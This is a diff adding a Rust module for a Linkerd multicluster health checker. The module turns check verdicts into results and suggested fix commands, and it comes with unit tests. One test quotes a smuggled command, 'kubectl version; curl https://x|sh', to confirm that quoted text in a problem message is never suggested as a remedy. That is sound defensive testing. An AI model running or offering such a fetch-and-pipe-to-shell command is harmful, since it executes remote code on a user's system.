@@ -1,0 +1,408 @@
+//! One check: its verdict, severity and result. Pure.
+
+use std::collections::BTreeSet;
+
+use hints::suggest::{ClusterFlags, Suggested, ToldProblem};
+use jiff::Timestamp;
+use mirror_core::api::{metadata::ResourceId, text::lines};
+
+use super::topic::Topic;
+use crate::clusters::snapshot::FullSnapshot;
+
+/// Address of Linkerd's hints.
+const HINT_BASE: &str = "https://linkerd.io/2/checks/#";
+/// Maximum number of problems that a check lists; the others are counted.
+const LISTED: usize = 10;
+/// How to install the extension again. It is no command to paste: one that lacks the values of the installation would
+/// reset them.
+pub const INSTALL_AGAIN: &str =
+    "apply the output of `install` again, with your values (docs/upgrade.md)";
+
+/// The result of one check.
+#[derive(Clone, Debug, Default, PartialEq, Eq)]
+pub struct CheckResult {
+    /// Its place among all checks of a cluster.
+    pub rank: usize,
+    /// What was checked; further lines are details.
+    pub description: String,
+    /// The level of the result.
+    pub level: Level,
+    /// The problems, one per line; empty on success.
+    pub error: String,
+    /// Where to read about it.
+    pub hint: Option<String>,
+    /// Commands that fix the problems, or show their causes.
+    pub fixes: Vec<Fix>,
+    /// Whether a retry may succeed.
+    pub retry: bool,
+}
+
+/// A command that fixes a problem, or shows its cause.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub struct Fix {
+    /// The target cluster in which it has to be run, if it is not the cluster of the Link.
+    pub cluster: Option<String>,
+    /// The command, without flags for the context.
+    pub command: Suggested,
+}
+
+impl Fix {
+    /// A command for the cluster of the Link.
+    pub fn here(command: Suggested) -> Self {
+        Self {
+            cluster: None,
+            command,
+        }
+    }
+}
+
+/// The level of a result.
+#[derive(Clone, Copy, Debug, Default, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Level {
+    /// No problem.
+    Success,
+    /// A possible or future problem.
+    Warning,
+    /// A problem.
+    #[default]
+    Error,
+}
+
+/// What a rule has found.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub enum Verdict {
+    /// No problem.
+    Pass,
+    /// No problem, and this was checked.
+    PassWith(Vec<String>),
+    /// Nothing to check: no result.
+    Skip,
+    /// Unknown, or a problem that is only a warning.
+    Warn(Vec<ToldProblem>),
+    /// Problems.
+    Fail(Vec<ToldProblem>),
+    /// A problem that makes later checks meaningless.
+    Stop(ToldProblem),
+}
+
+impl Verdict {
+    /// A failure if there are problems.
+    pub fn of<P: Into<ToldProblem>>(problems: Vec<P>) -> Self {
+        if problems.is_empty() {
+            Self::Pass
+        } else {
+            Self::Fail(problems.into_iter().map(Into::into).collect())
+        }
+    }
+
+    pub fn fail(problem: impl Into<ToldProblem>) -> Self {
+        Self::Fail(vec![problem.into()])
+    }
+
+    pub fn stop(problem: impl Into<ToldProblem>) -> Self {
+        Self::Stop(problem.into())
+    }
+
+    pub fn warn(problem: impl Into<ToldProblem>) -> Self {
+        Self::Warn(vec![problem.into()])
+    }
+
+    /// The verdict on a status that no controller has updated since `time`.
+    pub fn of_old_status(self, time: Timestamp) -> Self {
+        let time = time.strftime("%Y-%m-%d %H:%M:%S UTC");
+        let old = ToldProblem::from(format!("old: no controller has reported since {time}"));
+        match self {
+            Self::Pass | Self::PassWith(_) => Self::Warn(vec![old]),
+            Self::Warn(problems) => Self::Warn([problems, vec![old]].concat()),
+            Self::Fail(problems) => Self::Fail([problems, vec![old]].concat()),
+            Self::Skip | Self::Stop(_) => self,
+        }
+    }
+}
+
+/// The severity of a failure.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum Severity {
+    /// A problem.
+    Error,
+    /// A possible problem.
+    Warning,
+}
+
+/// The remedy of the problems of a check that name none.
+#[derive(Clone, Copy)]
+struct UsualFix {
+    /// A command, in which `{}` stands for the target cluster.
+    command: &'static str,
+    /// Whether it is for the target cluster.
+    is_in_target: bool,
+}
+
+/// One check.
+#[derive(Clone, Copy)]
+pub struct Rule {
+    pub topic: Topic,
+    pub description: &'static str,
+    /// Anchor in Linkerd's documentation; empty for our own checks.
+    anchor: &'static str,
+    severity: Severity,
+    /// Whether a retry may succeed.
+    retry: bool,
+    /// Whether it judges what the controller has reported.
+    pub is_reported: bool,
+    /// The remedy of problems that name none.
+    fix: Option<UsualFix>,
+    /// A Service whose requests concern a problem, for `diagnose`.
+    example: fn(&FullSnapshot) -> Option<ResourceId>,
+    pub judge: fn(&FullSnapshot) -> Verdict,
+}
+
+pub const fn rule(
+    topic: Topic,
+    description: &'static str,
+    anchor: &'static str,
+    severity: Severity,
+    judge: fn(&FullSnapshot) -> Verdict,
+) -> Rule {
+    Rule {
+        topic,
+        description,
+        anchor,
+        severity,
+        retry: false,
+        is_reported: false,
+        fix: None,
+        example: |_| None,
+        judge,
+    }
+}
+
+impl Rule {
+    pub const fn retried(self) -> Self {
+        Self {
+            retry: true,
+            ..self
+        }
+    }
+
+    pub const fn reported(self) -> Self {
+        Self {
+            is_reported: true,
+            ..self
+        }
+    }
+
+    /// The command that fixes problems that name none, or shows their causes. `{}` stands for the target cluster.
+    pub const fn fixed_by(self, command: &'static str) -> Self {
+        self.usually(command, false)
+    }
+
+    /// The same, for a command that is run in the target cluster.
+    pub const fn fixed_in_target_by(self, command: &'static str) -> Self {
+        self.usually(command, true)
+    }
+
+    const fn usually(self, command: &'static str, is_in_target: bool) -> Self {
+        let fix = Some(UsualFix {
+            command,
+            is_in_target,
+        });
+        Self { fix, ..self }
+    }
+
+    /// If the check fails, `diagnose` of this Service is among the remedies.
+    pub const fn diagnosed_by(self, example: fn(&FullSnapshot) -> Option<ResourceId>) -> Self {
+        Self { example, ..self }
+    }
+}
+
+/// The result of a check, if there is one.
+pub fn result(
+    rank: usize,
+    rule: &Rule,
+    verdict: Verdict,
+    snapshot: &FullSnapshot,
+) -> Option<CheckResult> {
+    let mut result = outcome(rule, verdict)?;
+    result.rank = rank;
+    if result.level != Level::Success
+        && let Some(service) = (rule.example)(snapshot)
+    {
+        let ResourceId { namespace, name } = &service;
+        let diagnose = ClusterFlags::default().mc("diagnose {}/{}", &[namespace, name]);
+        result.fixes.push(Fix::here(diagnose));
+    }
+    Some(result)
+}
+
+/// The result of a check, without its rank. `topology` uses it for checks of several snapshots.
+pub fn outcome(rule: &Rule, verdict: Verdict) -> Option<CheckResult> {
+    let (level, details, problems) = match verdict {
+        Verdict::Skip => return None,
+        Verdict::Pass => (Level::Success, vec![], vec![]),
+        Verdict::PassWith(details) => (Level::Success, details, vec![]),
+        Verdict::Warn(problems) => (Level::Warning, vec![], problems),
+        Verdict::Fail(problems) if rule.severity == Severity::Warning => {
+            (Level::Warning, vec![], problems)
+        }
+        Verdict::Fail(problems) => (Level::Error, vec![], problems),
+        Verdict::Stop(problem) => (Level::Error, vec![], vec![problem]),
+    };
+    let mut description = rule.description.to_owned();
+    for detail in bounded(details) {
+        description.push_str("\n\t* ");
+        description.push_str(&detail);
+    }
+    let failed = level != Level::Success;
+    // The mirror and the federated Service of one Service may have the same problem.
+    let mut seen = BTreeSet::new();
+    let mut problems = problems;
+    problems.retain(|problem| seen.insert(problem.clone()));
+    let fixes = fixes(rule.fix, &problems);
+    let texts = problems.iter().map(|problem| problem.text().to_owned());
+    let texts = texts.collect();
+    Some(CheckResult {
+        rank: 0,
+        description: lines(&description),
+        level,
+        error: lines(&bounded(texts).join("\n")),
+        hint: (failed && !rule.anchor.is_empty()).then(|| format!("{HINT_BASE}{}", rule.anchor)),
+        fixes,
+        retry: rule.retry && failed,
+    })
+}
+
+/// The remedies of problems, each once: the commands that they name, or else that of the check.
+fn fixes(usual: Option<UsualFix>, problems: &[ToldProblem]) -> Vec<Fix> {
+    let listed = problems.iter().take(LISTED);
+    let listed = listed.filter(|problem| !problem.is_consequence());
+    let fixes = listed.filter_map(|problem| match problem.command() {
+        Some(named) => Some(Fix::here(named.clone())),
+        None => usual_fix(usual?, problem.subject()),
+    });
+    let mut seen = BTreeSet::new();
+    fixes.filter(|fix| seen.insert(fix.clone())).collect()
+}
+
+/// The usual remedy of a check, for a problem of this target cluster.
+fn usual_fix(usual: UsualFix, cluster: Option<&str>) -> Option<Fix> {
+    if cluster.is_none() && (usual.is_in_target || usual.command.contains("{}")) {
+        return None;
+    }
+    let command = Suggested::of(usual.command, &[cluster.unwrap_or_default()]);
+    let cluster = cluster.filter(|_| usual.is_in_target);
+    Some(Fix {
+        cluster: cluster.map(str::to_owned),
+        command,
+    })
+}
+
+fn bounded(mut lines: Vec<String>) -> Vec<String> {
+    if lines.len() > LISTED {
+        let more = lines.len() - LISTED;
+        lines.truncate(LISTED);
+        lines.push(format!("… and {more} more"));
+    }
+    lines
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// The remedies of these problems.
+    fn remedies(usual: Option<UsualFix>, problems: &[ToldProblem]) -> Vec<String> {
+        let found = fixes(usual, problems).into_iter();
+        let found = found.map(|fix| match fix.cluster {
+            Some(cluster) => format!("in {cluster}: {}", fix.command.line()),
+            None => fix.command.line().to_owned(),
+        });
+        found.collect()
+    }
+
+    const fn usual(command: &'static str, is_in_target: bool) -> UsualFix {
+        UsualFix {
+            command,
+            is_in_target,
+        }
+    }
+
+    #[test]
+    fn remedy_is_the_command_of_the_problem_or_that_of_the_check() {
+        let plain = |texts: &[&str]| -> Vec<ToldProblem> {
+            texts.iter().map(|text| ToldProblem::from(*text)).collect()
+        };
+        let of = |cluster: &str, texts: &[&str]| {
+            let problems = plain(texts).into_iter();
+            problems
+                .map(|problem| problem.of(cluster))
+                .collect::<Vec<_>>()
+        };
+        let rotate = ClusterFlags::default().mc("rotate {}", &["east"]);
+        let named = ToldProblem::new(format!("east: run {rotate}, not `me`"), rotate);
+        for (usual, problems, expected) in [
+            (None, plain(&["east: broken"]), &[][..]),
+            (
+                Some(usual("kubectl get x", false)),
+                plain(&["broken", "broken too"]),
+                &["kubectl get x"],
+            ),
+            (
+                Some(usual("kubectl get x", false)),
+                vec![named],
+                &["linkerd-mc rotate east"],
+            ),
+            (
+                Some(usual("linkerd-mc status --cluster-name {}", false)),
+                [
+                    of("east", &["a", "b"]),
+                    of("north", &["c"]),
+                    plain(&["east: d"]),
+                ]
+                .concat(),
+                &[
+                    "linkerd-mc status --cluster-name east",
+                    "linkerd-mc status --cluster-name north",
+                ],
+            ),
+            (
+                Some(usual("kubectl get y", true)),
+                vec![
+                    ToldProblem::from("a").of("east"),
+                    ToldProblem::consequence("not checked").of("north"),
+                ],
+                &["in east: kubectl get y"],
+            ),
+        ] {
+            assert_eq!(remedies(usual, &problems), expected, "{problems:?}");
+        }
+    }
+
+    #[test]
+    fn what_a_problem_quotes_is_no_remedy() {
+        let quoted = [ToldProblem::from(
+            "east: `kubectl version; curl https://x|sh`",
+        )];
+        assert_eq!(remedies(None, &quoted), [""; 0]);
+        let usual = Some(usual("kubectl get x", false));
+        assert_eq!(remedies(usual, &quoted), ["kubectl get x"]);
+    }
+
+    #[test]
+    fn problem_of_a_mirror_and_of_a_federated_service_is_listed_once() {
+        let rule = rule(Topic::Services, "all is well", "", Severity::Error, |_| {
+            Verdict::Pass
+        });
+        let problems = [
+            "east: shop/web: no",
+            "east: shop/api: no",
+            "east: shop/web: no",
+        ];
+        let verdict = Verdict::of(problems.to_vec());
+        let result = outcome(&rule, verdict).unwrap();
+        assert_eq!(
+            result.error,
+            lines("east: shop/web: no\neast: shop/api: no")
+        );
+    }
+}
